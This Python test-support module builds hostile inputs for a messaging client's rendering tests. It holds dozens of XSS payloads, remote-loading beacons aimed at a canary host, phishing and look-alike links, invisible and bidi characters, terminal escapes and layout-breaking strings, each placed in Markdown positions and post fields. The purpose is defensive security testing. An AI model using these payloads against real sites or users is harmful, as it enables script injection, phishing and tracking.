# SPDX-License-Identifier: AGPL-3.0-or-later
"""Words that want to run, to load, to lead astray or to break a page, made from tables: kinds, and places to put them (B6).

A kind is a text; `CANARY` in it is where a server listens that nobody may ever ask, `RUNS` a script that says it ran.
A place is a way to stand in CommonMark: each kind is written in each place. `letters` are posts as a member's own program
could send them, whatever ours would refuse to: the text, and with it a subject, a name of the writer, of a file, of a
form and of what it asks.
"""

import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

import msgspec

from tmtp_core.names import NameRefused, check_name
from tmtp_core.wire.payload import Attached, PostHead, encode_post_head

CANARY: Final = "http://canary.invalid"
"""Stands in a kind for the canary's address."""
RUNS: Final = "hit(1)"
"""What a script of a kind calls: the page's watcher has it (`tests.support.attempts`)."""

RUNNING: Final = {
    "script": f"<script>{RUNS}</script>",
    "script from elsewhere": f"<script src={CANARY}/script.js></script>",
    "script in a script": f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "script in capitals": f"<SCRIPT/x>{RUNS}</SCRIPT/x>",
    "script with a zero": f"<scr\0ipt>{RUNS}</scr\0ipt>",
    "module": f"<script type=module>import '{CANARY}/module.js'</script>",
    "picture that fails": f"<img src={CANARY}/img onerror={RUNS}>",
    "picture without blanks": f"<img/src=x/onerror={RUNS}>",
    "svg": f"<svg onload={RUNS}><image href={CANARY}/svg />",
    "svg's script": f"<svg><script>{RUNS}</script><set attributeName=x onbegin={RUNS}></svg>",
    "svg's use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUNS}>#x'/></svg>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUNS}</script>'></iframe></foreignObject></svg>",
    "parsed twice": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={RUNS}>'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'></noscript>",
    "template": f"<template><script>{RUNS}</script></template><slot onslotchange={RUNS}>",
    "details": f"<details open ontoggle={RUNS}><summary>more</summary></details>",
    "focus": f"<input autofocus onfocus={RUNS}><select autofocus onfocus={RUNS}></select>",
    "pointer": f"<p onpointerover={RUNS} onmousemove={RUNS} onclick={RUNS} style=font-size:9em>over me</p>",
    "animation": f"<style>@keyframes a{{}}</style><b style=animation:a onanimationstart={RUNS}>x</b>",
    "frame": f"<iframe src='javascript:{RUNS}'></iframe><iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{RUNS}</script>'></object><embed src={CANARY}/embed>",
    "out of a text area": f"</textarea></title></style></xmp><script>{RUNS}</script>",
    "out of an attribute": f"\"'><img src=x onerror={RUNS}>",
    "another attribute": f'" onmouseover="{RUNS}" autofocus onfocus="{RUNS}" x="',
    "out of a comment": f"<!--><img src=x onerror={RUNS}>--><![CDATA[<script>{RUNS}</script>]]>",
    "as entities": f"&lt;script&gt;{RUNS}&lt;/script&gt; &#x3c;img src=x onerror={RUNS}&#62; &amp;lt;b&amp;gt;",
    "other brackets": f"\uff1cscript\uff1e{RUNS}\uff1c/script\uff1e +ADw-script+AD4-{RUNS}+ADw-/script+AD4-",
    "templates of others": "{{constructor.constructor('hit(1)')()}} ${hit(1)} <%= hit(1) %> #{hit(1)}",
    "clobbered": "<form id=app><input name=nodeName></form><a id=trustedTypes></a><img name=getElementById>",
    "script's address": f"javascript:{RUNS}//",
    "script's address in pieces": f"java&#9;script&colon;{RUNS}//\tJaVaScRiPt:{RUNS}",
    "data's address": f"data:text/html,<script>{RUNS}</script>",
    "odd addresses": f"vbscript:{RUNS} blob:{CANARY}/x file:///etc/passwd intent:x view-source:{CANARY}",
}
LOADING: Final = {
    "style": f"<style>@import '{CANARY}/import.css';body{{display:none!important}}</style>",
    "style's address": f'<p style="background:url({CANARY}/bg);position:fixed;inset:0;z-index:9">over all</p>',
    "style sheet": f"<link rel=stylesheet href={CANARY}/css><link rel=preconnect href={CANARY}><link rel=icon href={CANARY}/i>",
    "refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'><base href={CANARY}/ target=_top>",
    "form": f"<form action={CANARY}/form><button autofocus>Settings</button><input type=image src={CANARY}/input></form>",
    "source sets": f"<picture><source srcset='{CANARY}/set 1x'><img srcset='{CANARY}/set2 2x' lowsrc={CANARY}/low></picture>",
    "sound and film": f"<video poster={CANARY}/poster autoplay src={CANARY}/film><track src={CANARY}/track></video><audio autoplay src={CANARY}/sound>",
    "old attributes": f"<table background={CANARY}/old><td background={CANARY}/old2><body background={CANARY}/old3>",
    "ping": f"<a href={CANARY}/link ping={CANARY}/ping>here</a>",
    "picture of text": f"![picture]({CANARY}/picture.png) [![]({CANARY}/in-link.png)]({CANARY}/link) ![][r]\n\n[r]: {CANARY}/ref.png",
    "without a scheme": f"//{CANARY[7:]}/none \\\\{CANARY[7:]}\\share",
}
DECEIVING: Final = {
    "another host": f"[https://bank.example/login]({CANARY}/pay) <{CANARY}/auto> {CANARY}/bare",
    "a host as a name": f"{CANARY[:7]}bank.example:443@{CANARY[7:]}/ https://bank.example%2f@{CANARY[7:]}/",
    "letters that look like others": "https://ex\u0430mple.org/ [paypal.com](https://p\u0430yp\u0430l.com/)",
    "turned": "\u202egnp.exe\u202c \u2066hidden\u2069 \u202bturned\u202a \u200fright",
    "not closed": "\u2067\u2067\u2067 \u202e all that follows",
    "unseen": "pay\u200bpal\u2060.com\ufeff \u00ad\u034f\u115f\u3164\U000e0041\U000e0042",
    "another line": "first\u2028second\u2029third\x0bfourth\x0cfifth\x85sixth",
    "terminal": "\x1b[31mred\x1b[0m \x07\x08\x08\x08 \x9b2J",
    "other pieces of a page": "</bdi></p></div></article></li></ol></main></body></html><h1>Settings</h1><button>Delete</button>",
}
BREAKING: Final = {
    "piled marks": "Z" + "\u0317\u0301\u0489\u0352" * 200 + "algo" + "\u0e49" * 300,
    "wide letters": "\ufdfd" * 40 + "\U00012031" * 40 + "\ua9c5" * 40 + "\u2e3b" * 40,
    "one long word": "x" * 8_000,
    "right to left": "\u0645\u0631\u062d\u0628\u0627\u200d" * 300,
    "no blanks that break": "a" + "\u00a0" * 3_000 + "b",
    "wide table": "|" + "a|" * 50 + "\n|" + "-|" * 50 + "\n" + ("|" + "wide|" * 50 + "\n") * 4,
    "deep quotes": "> " * 300 + "deep",
    "deep lists": "- " * 200 + "nested",
    "loud": "# " + "LOUD " * 300,
    "code": "```\n" + "y" * 3_000 + "\n" * 200 + "```",
    "empty lines": "top" + "\n\n&nbsp;\n\n" * 50 + "bottom",
    "many letters of one place": "\U0001f468\u200d" * 200 + "\U0001f1e9" * 99,
}
KINDS: Final = {**RUNNING, **LOADING, **DECEIVING, **BREAKING}

PLACES: Final = {
    "as it is": "{kind}",
    "quotes and lists": "Hello\n\n> {line}\n> - [x] # {line}\n>   1. **{line}**",
    "in a table": "| a | b |\n|---|:-:|\n| {line} | *{line}* |",
    "a link's words": "[{line}](" + CANARY + "/words '{line}')",
    "a link's target": "[words](<{line}>) [more]({line})",
    "a picture, code": "![{line}](" + CANARY + '/alt.png "{line}") `{line}`\n\n```{line}\n{kind}\n```',
    "a definition": "[one][two] ![one][two]\n\n[two]: {line} '{line}'",
    "in markup": "<div title=\"{line}\" class='{line}'>{line}</div>\n\n<b>{line}</b>",
}

PING_UNITS: Final = 140
NAME_CHARACTERS: Final = 50  # a service takes more; there is room for a number
_SUBJECT_CHARACTERS: Final = 1_500
_FILE_NAME_CHARACTERS: Final = 400
_FORM_CHARACTERS: Final = 200


@dataclass(frozen=True, slots=True)
class Letter:
    """A post that is to be sent: its text, what its head says beside, and its files with their octets."""

    text: str
    alias: str
    subject: str
    files: tuple[tuple[Attached, bytes], ...]

    def octets(self, thread: str) -> tuple[bytes, int]:
        """Its data, in this thread ("": a new one), and how many octets of it are its head (wire.md §11)."""
        attach = tuple(one for one, _ in self.files)
        head = encode_post_head(PostHead(threadid=thread, alias=self.alias, subject=self.subject, attach=attach))
        return head + self.text.encode() + b"".join(content for _, content in self.files), len(head)


def letters(address: str) -> Iterator[Letter]:
    """Each kind in each place, for the canary at this address; the other words of a letter are of further kinds."""
    others = itertools.cycle(KINDS.values())
    for place, written in PLACES.items():
        for kind, text in KINDS.items():
            subject, file, asked = (at(address, next(others)) for _ in range(3))
            whole = written.replace("{line}", text.replace("\n", " ")).replace("{kind}", text)
            form = Attached(f"f:{asked[:_FORM_CHARACTERS]}", len(data := _form(asked)), f"{kind}, {place}")
            files = (
                (Attached(f"u:{file[:_FILE_NAME_CHARACTERS]}.txt", 1), b"x"),
                (Attached(f"u:2{file[-_FILE_NAME_CHARACTERS:]}"), b""),
                (form, data),
            )
            yield Letter(at(address, whole), file[:NAME_CHARACTERS], subject[:_SUBJECT_CHARACTERS], files)
        next(others)  # so that in the next place the same kinds do not meet again


def names(address: str) -> list[str]:
    """What somebody may want to be called, or to call a group: the kinds, as far as a service takes them as names (D1)."""
    short = (
        "".join(one for one in at(address, text) if one.isprintable())[:NAME_CHARACTERS] for text in KINDS.values()
    )
    return [text for text in dict.fromkeys(short) if _is_name(text)]


def _is_name(text: str) -> bool:
    try:
        check_name(text)
    except NameRefused:
        return False
    return True


def pings(address: str) -> list[str]:
    """First contacts: the kinds, as far as 140 UTF-16 units have room for them."""
    units = (at(address, text).encode("utf-16-le")[: 2 * PING_UNITS] for text in KINDS.values())
    return list(dict.fromkeys(one.decode("utf-16-le", "ignore") for one in units))


def at(address: str, text: str) -> str:
    """The text with the canary's address in it."""
    return text.replace(CANARY, address).replace(CANARY[7:], address[7:])


def _form(words: str) -> bytes:
    """A form whose every word is hostile, in the shape of wire.md §11."""
    title = "".join(one for one in words if one.isprintable())[:_FORM_CHARACTERS]
    asked = {"type": "string", "title": title, "description": words[:1_000]}
    chosen = {**asked, "enum": [title, "something else"]}
    properties = {title[:NAME_CHARACTERS] or "none": chosen, "plain": asked}
    return msgspec.json.encode({"type": "object", "title": title, "properties": properties})
